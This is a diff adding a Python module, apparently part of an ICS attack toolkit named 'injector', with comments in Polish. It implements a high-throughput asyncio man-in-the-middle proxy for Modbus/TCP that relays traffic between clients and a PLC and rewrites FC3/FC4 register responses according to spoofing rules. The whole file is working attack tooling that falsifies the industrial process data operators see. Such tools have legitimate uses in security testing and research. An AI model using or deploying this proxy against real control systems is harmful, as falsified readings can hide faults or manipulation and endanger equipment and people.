@@ -0,0 +1,208 @@
+# injector/attacks/proxy_async.py
+"""
+Spoof proxy na jednej pętli asyncio - zamiast 3 wątków na połączenie
+(handle_connection + 2x forward_stream) w modbus_proxy_spoof.
+
+Framing i logika spoofingu są te same (maybe_record_request / maybe_spoof_response),
+zmienia się tylko transport:
+  - jedno połączenie = 2 coroutines (C->P i P->C), tysiące połączeń w jednym wątku,
+  - backpressure: po każdym write() czekamy na drain() - wolny odbiorca wstrzymuje
+    czytanie z drugiej strony (bufor w proxy nie rośnie bez końca, TCP window robi resztę),
+  - stop_event sprawdzany co 100 ms, zamknięcie nie czeka na timeouty socketów.
+"""
+
+import asyncio
+import logging
+import threading
+import time
+from typing import Any, Dict, Optional, Set
+
+from injector.core import mbap
+from injector.core.config import PlcConfig
+from injector.core.mbap import FrameView
+from injector.attacks.modbus_proxy_spoof import (
+    ALL_FUNCS, ConnState, get_txn_counters, maybe_record_request, maybe_spoof_response,
+)
+from injector.core.txlog import get_txlog
+from injector.attacks.proxy_rules import get_spoof_engine
+from injector.attacks.proxy_stats import ConnStats, DirStats, get_proxy_stats
+
+log = logging.getLogger(__name__)
+
+READ_CHUNK = 65536
+WRITE_HIGH_WATER = 256 * 1024   # powyżej tego drain() blokuje
+PLC_CONNECT_TIMEOUT_S = 3.0
+
+
+class AsyncModbusProxy:
+    """
+    Transparentny proxy Modbus/TCP klient <-> PLC ze spoofingiem odpowiedzi FC3/FC4
+    według reguł z proxy_rules (kompilowanych raz, w __init__).
+    run() jest blokujące i pasuje do threading.Thread (jak run_modbus_proxy).
+    """
+
+    def __init__(
+        self,
+        cfg: PlcConfig,
+        listen_host: str,
+        listen_port: int,
+        backlog: int = 1024,
+        reuse_port: bool = False,
+    ):
+        self.cfg = cfg
+        self.listen_host = listen_host
+        self.listen_port = listen_port
+        self.backlog = backlog
+        self.reuse_port = reuse_port      # SO_REUSEPORT - kilka procesów na jednym porcie (proxy_multi)
+        self.engine = get_spoof_engine()
+        self.txlog = get_txlog()
+
+        self._tasks: Set[asyncio.Task] = set()
+        self.connections = 0
+        self.connections_total = 0
+        self.plc_connect_failed = 0
+
+    def stats(self) -> Dict[str, Any]:
+        return {
+            "mode": "asyncio",
+            "connections": self.connections,
+            "connections_total": self.connections_total,
+            "plc_connect_failed": self.plc_connect_failed,
+            "spoof": self.engine.stats(),
+            "transactions": get_txn_counters().snapshot(),
+            "traffic": get_proxy_stats().snapshot(),
+            "txlog": self.txlog.stats() if self.txlog is not None else None,
+        }
+
+    # --- pompowanie ramek ---
+
+    async def _pump(
+        self,
+        reader: asyncio.StreamReader,
+        writer: asyncio.StreamWriter,
+        state: ConnState,
+        stats: DirStats,
+        direction: str,
+        record_requests: bool,
+        spoof_responses: bool,
+    ) -> None:
+        engine = self.engine
+        txlog = self.txlog
+        if record_requests or spoof_responses:
+            funcs = ALL_FUNCS if txlog is not None else engine.functions
+        else:
+            funcs = ()
+        buf = bytearray()
+        while True:
+            chunk = await reader.read(READ_CHUNK)
+            if not chunk:
+                return
+            t_rx = time.perf_counter()
+            buf += chunk
+
+            # pass-through: dekodujemy tylko ramki FC z reguł (jak forward_stream)
+            consumed, offsets, n_frames = mbap.scan_frames(buf, funcs=funcs)
+            if not consumed:
+                continue
+
+            for off in offsets:
+                frame = FrameView(buf, off)
+                if record_requests:
+                    try:
+                        maybe_record_request(state, frame, funcs)
+                    except Exception as e:
+                        stats.parse_errors += 1
+                        log.debug("[%s] record request error: %r", direction, e)
+                if spoof_responses:
+                    try:
+                        stats.spoofed_registers += maybe_spoof_response(self.cfg, state, frame, engine, txlog)
+                    except Exception as e:
+                        stats.parse_errors += 1
+                        log.debug("[%s] spoof response error: %r", direction, e)
+
+            # wszystkie kompletne ramki z tego odczytu jednym write()
+            if consumed == len(buf):
+                writer.write(buf)
+                buf = bytearray()       # transport może trzymać referencję - nie modyfikujemy starego
+            else:
+                writer.write(bytes(buf[:consumed]))
+                del buf[:consumed]
+            await writer.drain()
+            stats.batch(n_frames, consumed, t_rx, len(buf))
+
+    async def _handle_client(self, c_reader: asyncio.StreamReader, c_writer: asyncio.StreamWriter) -> None:
+        peer = c_writer.get_extra_info("peername")
+        try:
+            p_reader, p_writer = await asyncio.wait_for(
+                asyncio.open_connection(self.cfg.plc_host, self.cfg.plc_port),
+                timeout=PLC_CONNECT_TIMEOUT_S,
+            )
+        except (OSError, asyncio.TimeoutError) as e:
+            self.plc_connect_failed += 1
+            log.warning("Proxy: cannot connect to PLC %s:%s for %s: %r",
+                        self.cfg.plc_host, self.cfg.plc_port, peer, e)
+            c_writer.close()
+            return
+
+        self.connections += 1
+        self.connections_total += 1
+        log.debug("New client for spoof proxy: %s", peer)
+        for w in (c_writer, p_writer):
+            w.transport.set_write_buffer_limits(high=WRITE_HIGH_WATER)
+
+        state = ConnState()
+        stats = ConnStats(state.conn_id, peer)
+        stats.bind(c_writer.get_extra_info("socket"), p_writer.get_extra_info("socket"),
+                   c_writer.transport, p_writer.transport)
+        pumps = [
+            asyncio.create_task(self._pump(c_reader, p_writer, state, stats.c2p, "C->P", True, False)),
+            asyncio.create_task(self._pump(p_reader, c_writer, state, stats.p2c, "P->C", False, True)),
+        ]
+        try:
+            # koniec jednej strony (EOF / błąd) zamyka całe połączenie
+            await asyncio.wait(pumps, return_when=asyncio.FIRST_COMPLETED)
+        except asyncio.CancelledError:
+            pass
+        finally:
+            for t in pumps:
+                t.cancel()
+            await asyncio.gather(*pumps, return_exceptions=True)
+            state.close()
+            stats.close()
+            for w in (c_writer, p_writer):
+                w.close()
+            self.connections -= 1
+            log.debug("Proxy connection closed: %s", peer)
+
+    def _on_client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        task = asyncio.get_running_loop().create_task(self._handle_client(reader, writer))
+        self._tasks.add(task)
+        task.add_done_callback(self._tasks.discard)
+
+    async def serve(self, stop_event: threading.Event,
+                    ready_event: Optional[threading.Event] = None) -> None:
+        server = await asyncio.start_server(
+            self._on_client, self.listen_host, self.listen_port,
+            reuse_address=True, reuse_port=self.reuse_port or None, backlog=self.backlog,
+        )
+        log.info(
+            "Spoof proxy (asyncio) listening on %s:%s -> PLC %s:%s",
+            self.listen_host, self.listen_port, self.cfg.plc_host, self.cfg.plc_port,
+        )
+        if ready_event:
+            ready_event.set()
+
+        try:
+            # threading.Event nie ma wersji awaitable -> polling co 100 ms
+            while not stop_event.is_set():
+                await asyncio.sleep(0.1)
+        finally:
+            server.close()
+            for t in list(self._tasks):
+                t.cancel()
+            await asyncio.gather(*self._tasks, return_exceptions=True)
+            await server.wait_closed()
+            log.info("Spoof proxy stopped.")
+
+    def run(self, stop_event: threading.Event, ready_event: Optional[threading.Event] = None) -> None:
+        asyncio.run(self.serve(stop_event, ready_event))